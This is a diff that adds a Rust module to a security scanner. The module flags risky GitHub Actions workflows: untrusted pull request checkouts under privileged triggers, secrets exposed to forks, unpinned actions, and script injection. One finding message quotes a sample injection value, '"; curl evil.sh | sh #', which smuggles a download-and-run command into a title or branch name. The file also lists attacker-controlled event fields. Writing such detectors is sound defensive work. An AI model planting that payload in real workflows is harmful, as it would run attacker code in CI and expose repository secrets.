@@ -0,0 +1,335 @@
+//! GitHub Actions workflow checks
+//!
+//! Reads the workflows under .github/workflows and reports the patterns
+//! behind most CI compromises: pull_request_target jobs that check out the
+//! pull request's code, secrets reachable from such jobs, third-party
+//! actions not pinned to a commit, and `${{ github.event.* }}` values that
+//! an outsider controls pasted into shell scripts. YAML carries no
+//! positions once parsed, so findings are placed on the first line at or
+//! after their job that holds the offending text.
+
+use serde_yaml::{Mapping, Value};
+use std::path::Path;
+
+use super::{SecurityIssue, Severity};
+
+/// Triggers that run with the base repository's secrets and write token
+/// while handling an event an outsider can raise
+const PRIVILEGED_TRIGGERS: &[&str] = &["pull_request_target", "workflow_run"];
+
+/// Expressions naming the pull request's code rather than the base branch
+const PR_HEAD_REFS: &[&str] = &[
+    "github.event.pull_request.head.sha",
+    "github.event.pull_request.head.ref",
+    "github.event.workflow_run.head_sha",
+    "github.event.workflow_run.head_branch",
+    "github.head_ref",
+    "refs/pull/",
+];
+
+/// Event fields an outsider writes: titles, bodies, branch names, commit
+/// messages and author details
+const UNTRUSTED_CONTEXTS: &[&str] = &[
+    "github.event.issue.title",
+    "github.event.issue.body",
+    "github.event.pull_request.title",
+    "github.event.pull_request.body",
+    "github.event.pull_request.head.ref",
+    "github.event.pull_request.head.label",
+    "github.event.pull_request.head.repo.default_branch",
+    "github.event.comment.body",
+    "github.event.review.body",
+    "github.event.review_comment.body",
+    "github.event.discussion.title",
+    "github.event.discussion.body",
+    "github.event.head_commit.message",
+    "github.event.head_commit.author.email",
+    "github.event.head_commit.author.name",
+    "github.event.commits",
+    "github.event.pages",
+    "github.event.workflow_run.head_branch",
+    "github.event.workflow_run.head_commit.message",
+    "github.event.workflow_run.head_commit.author.email",
+    "github.event.workflow_run.head_commit.author.name",
+    "github.event.workflow_run.pull_requests",
+    "github.head_ref",
+];
+
+/// Owners whose actions are maintained by GitHub itself
+const TRUSTED_ACTION_OWNERS: &[&str] = &["actions", "github"];
+
+/// Whether a path is a GitHub Actions workflow
+pub fn is_workflow(path: &Path) -> bool {
+    let is_yaml = path.extension().and_then(|e| e.to_str()).is_some_and(|e| matches!(e, "yml" | "yaml"));
+    let in_workflows = path.parent().is_some_and(|dir| {
+        dir.file_name().is_some_and(|n| n == "workflows")
+            && dir.parent().and_then(|d| d.file_name()).is_some_and(|n| n == ".github")
+    });
+    is_yaml && in_workflows
+}
+
+struct Workflow<'a> {
+    path: &'a Path,
+    lines: &'a [String],
+    issues: Vec<SecurityIssue>,
+}
+
+/// Check a workflow file; nothing is reported when it is not valid YAML
+pub fn scan_lines(path: &Path, lines: &[String]) -> Vec<SecurityIssue> {
+    let Ok(document) = serde_yaml::from_str::<Value>(&lines.join("\n")) else {
+        return Vec::new();
+    };
+    let mut workflow = Workflow { path, lines, issues: Vec::new() };
+    workflow.check(&document);
+    workflow.issues
+}
+
+/// Event names of the `on:` key, in any of its three forms
+fn triggers(document: &Value) -> Vec<String> {
+    match document.get("on") {
+        Some(Value::String(event)) => vec![event.clone()],
+        Some(Value::Sequence(events)) => events.iter().filter_map(|e| e.as_str().map(String::from)).collect(),
+        Some(Value::Mapping(events)) => events.keys().filter_map(|e| e.as_str().map(String::from)).collect(),
+        _ => Vec::new(),
+    }
+}
+
+/// Every string value below a node
+fn strings<'v>(value: &'v Value, out: &mut Vec<&'v str>) {
+    match value {
+        Value::String(s) => out.push(s),
+        Value::Sequence(items) => items.iter().for_each(|item| strings(item, out)),
+        Value::Mapping(map) => map.values().for_each(|v| strings(v, out)),
+        Value::Tagged(tagged) => strings(&tagged.value, out),
+        _ => {}
+    }
+}
+
+/// The `${{ ... }}` expressions of a string, without the braces
+fn expressions(text: &str) -> Vec<&str> {
+    text.split("${{")
+        .skip(1)
+        .filter_map(|part| part.split_once("}}").map(|(expression, _)| expression.trim()))
+        .collect()
+}
+
+/// Secret names an expression reads, other than the job's own token
+fn secret_names(expression: &str) -> Vec<String> {
+    expression
+        .match_indices("secrets.")
+        .map(|(i, prefix)| {
+            expression[i + prefix.len()..]
+                .chars()
+                .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
+                .collect::<String>()
+        })
+        .filter(|name| !name.is_empty() && name != "GITHUB_TOKEN")
+        .collect()
+}
+
+fn is_untrusted(expression: &str) -> bool {
+    UNTRUSTED_CONTEXTS.iter().any(|context| expression.contains(context))
+}
+
+/// Why a `uses:` reference is not pinned, or None when it is
+fn unpinned(reference: &str) -> Option<String> {
+    if reference.starts_with("./") {
+        return None;
+    }
+    if let Some(image) = reference.strip_prefix("docker://") {
+        return (!image.contains("@sha256:")).then(|| format!("The Docker image {} is not pinned to a digest", image));
+    }
+    let (action, version) = reference.split_once('@')?;
+    let owner = action.split('/').next().unwrap_or(action);
+    if TRUSTED_ACTION_OWNERS.contains(&owner.to_ascii_lowercase().as_str()) {
+        return None;
+    }
+    let is_sha = version.len() == 40 && version.chars().all(|c| c.is_ascii_hexdigit());
+    (!is_sha).then(|| format!("{} is pinned to the movable ref {}", action, version))
+}
+
+impl<'a> Workflow<'a> {
+    /// 1-based line of the first line at or after `from` containing `needle`,
+    /// or `from` itself
+    fn line_of(&self, needle: &str, from: usize) -> usize {
+        self.lines
+            .iter()
+            .enumerate()
+            .skip(from.saturating_sub(1))
+            .find(|(_, line)| line.contains(needle))
+            .map_or(from, |(idx, _)| idx + 1)
+    }
+
+    fn report(&mut self, line: usize, kind: &str, severity: Severity, message: String, cwe: &str, fix_hint: &str) {
+        self.issues.push(SecurityIssue {
+            file: self.path.to_string_lossy().to_string(),
+            line,
+            severity,
+            kind: kind.to_string(),
+            rule: format!("workflow-{}", kind.to_ascii_lowercase().replace(' ', "-")),
+            message,
+            cwe: Some(cwe.to_string()),
+            fix_hint: Some(fix_hint.to_string()),
+            cell: None,
+            fingerprint: None,
+            triage: None,
+        });
+    }
+
+    fn check(&mut self, document: &Value) {
+        let triggers = triggers(document);
+        let privileged: Vec<&str> = PRIVILEGED_TRIGGERS
+            .iter()
+            .copied()
+            .filter(|t| triggers.iter().any(|e| e == t))
+            .collect();
+        let Some(jobs) = document.get("jobs").and_then(Value::as_mapping) else {
+            return;
+        };
+
+        let mut cursor = self.line_of("jobs:", 1);
+        for (id, job) in jobs {
+            let id = id.as_str().unwrap_or_default();
+            cursor = self.line_of(&format!("{}:", id), cursor);
+            self.check_job(id, job, cursor, &privileged);
+        }
+    }
+
+    fn check_job(&mut self, id: &str, job: &Value, job_line: usize, privileged: &[&str]) {
+        // A reusable workflow called by the job
+        if let Some(reference) = job.get("uses").and_then(Value::as_str) {
+            self.check_uses(reference, job_line);
+        }
+
+        let steps = job.get("steps").and_then(Value::as_sequence).map(Vec::as_slice).unwrap_or_default();
+        let mut untrusted_checkout = None;
+        for step in steps {
+            let Some(step) = step.as_mapping() else {
+                continue;
+            };
+            if let Some(reference) = step.get("uses").and_then(Value::as_str) {
+                self.check_uses(reference, job_line);
+                if untrusted_checkout.is_none() && !privileged.is_empty() {
+                    untrusted_checkout = self.check_checkout(reference, step, job_line, privileged);
+                }
+            }
+            self.check_script_injection(step, job_line);
+        }
+
+        if let Some(checkout_line) = untrusted_checkout {
+            self.check_exposed_secrets(id, job, checkout_line, job_line, privileged);
+        }
+    }
+
+    fn check_uses(&mut self, reference: &str, job_line: usize) {
+        let Some(reason) = unpinned(reference) else {
+            return;
+        };
+        let line = self.line_of(reference, job_line);
+        self.report(
+            line,
+            "Unpinned Action",
+            Severity::Medium,
+            format!(
+                "{}. Whoever controls that repository or a moved tag can run code in this workflow with its token and secrets.",
+                reason
+            ),
+            "CWE-829",
+            "Pin third-party actions to a full commit SHA, e.g. uses: owner/action@<40-character sha> # v1.2.3, and let Dependabot update it",
+        );
+    }
+
+    /// An actions/checkout of the pull request's code in a privileged
+    /// workflow; returns the line of the checkout
+    fn check_checkout(&mut self, reference: &str, step: &Mapping, job_line: usize, privileged: &[&str]) -> Option<usize> {
+        if !reference.to_ascii_lowercase().starts_with("actions/checkout@") {
+            return None;
+        }
+        let with = step.get("with");
+        let target = with.and_then(|w| w.get("ref")).and_then(Value::as_str).unwrap_or_default();
+        let repository = with.and_then(|w| w.get("repository")).and_then(Value::as_str).unwrap_or_default();
+        let head = PR_HEAD_REFS.iter().find(|r| target.contains(*r))?;
+        // Checking out a fork's branch by name needs its repository too
+        if target.contains("head_ref") && !repository.is_empty() && !repository.contains("head.repo") {
+            return None;
+        }
+
+        let line = self.line_of(target, job_line);
+        self.report(
+            line,
+            "Untrusted Checkout",
+            Severity::Critical,
+            format!(
+                "A {} workflow checks out the pull request's code ({}). Build scripts, package hooks or actions in a fork then run with the base repository's write token and secrets.",
+                privileged.join("/"),
+                head
+            ),
+            "CWE-829",
+            "Use the pull_request trigger to build fork code, or split the job: build untrusted code without secrets under pull_request and act on its uploaded artifacts in a separate workflow_run job that never executes them",
+        );
+        Some(line)
+    }
+
+    /// Secrets in a job that runs the pull request's code
+    fn check_exposed_secrets(&mut self, id: &str, job: &Value, checkout_line: usize, job_line: usize, privileged: &[&str]) {
+        let mut found = Vec::new();
+        strings(job, &mut found);
+        let mut secrets: Vec<String> = found
+            .iter()
+            .flat_map(|text| expressions(text))
+            .flat_map(secret_names)
+            .collect();
+        secrets.sort();
+        secrets.dedup();
+        let inherits = job.get("secrets").and_then(Value::as_str) == Some("inherit");
+        if secrets.is_empty() && !inherits {
+            return;
+        }
+
+        let exposed = if inherits { "every repository secret (secrets: inherit)".to_string() } else { secrets.join(", ") };
+        let line = match secrets.first() {
+            Some(secret) => self.line_of(&format!("secrets.{}", secret), job_line),
+            None => checkout_line,
+        };
+        self.report(
+            line,
+            "Secrets Exposed To Forks",
+            Severity::Critical,
+            format!(
+                "Job {} of a {} workflow runs code from the pull request and has access to {}. A fork can read them from its own build steps.",
+                id,
+                privileged.join("/"),
+                exposed
+            ),
+            "CWE-200",
+            "Keep secrets out of jobs that check out pull request code; move the steps that need them to a job that only handles trusted data, gated by an environment with required reviewers",
+        );
+    }
+
+    /// Untrusted event data expanded inside `run:` scripts or github-script code
+    fn check_script_injection(&mut self, step: &Mapping, job_line: usize) {
+        let uses = step.get("uses").and_then(Value::as_str).unwrap_or_default();
+        let scripts = [
+            step.get("run").and_then(Value::as_str),
+            uses.starts_with("actions/github-script@")
+                .then(|| step.get("with").and_then(|w| w.get("script")).and_then(Value::as_str))
+                .flatten(),
+        ];
+        for script in scripts.into_iter().flatten() {
+            for expression in expressions(script).into_iter().filter(|e| is_untrusted(e)) {
+                let line = self.line_of(expression, job_line);
+                self.report(
+                    line,
+                    "Script Injection",
+                            Severity::High,
+                    format!(
+                        "${{{{ {} }}}} is pasted into a script before it runs. A title, branch name or comment such as `\"; curl evil.sh | sh #` executes in the runner.",
+                        expression
+                    ),
+                    "CWE-94",
+                    "Pass the value through an environment variable and quote it: env: VALUE: ${{ <expression> }} then use \"$VALUE\" in the script (process.env.VALUE in github-script)",
+                );
+            }
+        }
+    }
+}